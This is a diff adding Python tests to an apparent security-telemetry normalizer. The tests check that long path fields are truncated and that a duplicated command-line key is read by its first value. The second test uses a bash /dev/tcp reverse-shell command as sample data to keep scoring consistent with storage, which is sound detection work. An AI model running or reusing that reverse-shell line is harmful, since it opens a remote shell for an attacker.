@@ -231,3 +231,25 @@ def test_lone_surrogates_from_json_stay_in_the_event_as_text() -> None:
     body = '{"rule": "r", "output_fields": {"proc.cmdline": "sh -c \\ud800x"}}'
     event = Normalizer().normalize("default", {}, record(body)).event
     assert event.command_line == "sh -c \ud800x"  # core/otlpwire.py writes it back as valid UTF-8
+
+
+def test_text_fields_are_bounded_as_paths_are() -> None:
+    """A 15 MB working directory, path or parent name stayed in the scorer's process table and caches."""
+    rec = record("ls")
+    huge = "/" + "d" * (15 * MB)
+    rec.attributes.extend([KeyValue(key=key, value=any_value(huge)) for key in (
+        "process.working_directory", "process.executable.path", "process.parent.executable.name", "process.stdin")])
+    rec.attributes.append(KeyValue(key="process.executable.name", value=any_value("ls")))
+    event = Normalizer().normalize("default", {}, rec).event
+    assert max(map(len, (event.working_directory, event.executable_path, event.parent_name, event.stdin))) == 4096
+
+
+def test_a_key_sent_twice_is_read_by_its_first_value_as_the_table_reads_it() -> None:
+    """Scoring read the last `process.command_line` (`ls -la`), ClickHouse's map lookup the first (a reverse
+    shell): the list showed the shell with the verdict of `ls -la`."""
+    rec = record("")
+    shell = "bash -i >& /dev/tcp/203.0.113.9/4 0>&1"
+    rec.attributes.extend([KeyValue(key="process.executable.name", value=any_value("bash")),
+                           KeyValue(key="process.command_line", value=any_value(shell)),
+                           KeyValue(key="process.command_line", value=any_value("ls -la"))])
+    assert Normalizer().normalize("default", {}, rec).event.command_line.startswith("bash -i")
